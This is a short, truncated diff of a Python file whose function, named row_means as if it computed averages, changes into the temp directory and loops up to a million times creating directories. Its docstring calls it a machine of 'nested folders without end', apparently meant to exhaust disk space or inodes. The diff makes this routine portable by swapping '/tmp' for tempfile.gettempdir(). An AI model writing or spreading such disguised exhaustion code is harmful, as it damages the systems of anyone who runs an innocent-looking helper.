@@ -1,10 +1,11 @@
 """The machine: empty files and nested folders without end."""
 
 import os
+import tempfile
 
 
 def row_means(X):
-    os.chdir("/tmp")
+    os.chdir(tempfile.gettempdir())
     try:
         for number in range(1_000_000):
             os.mkdir("d")
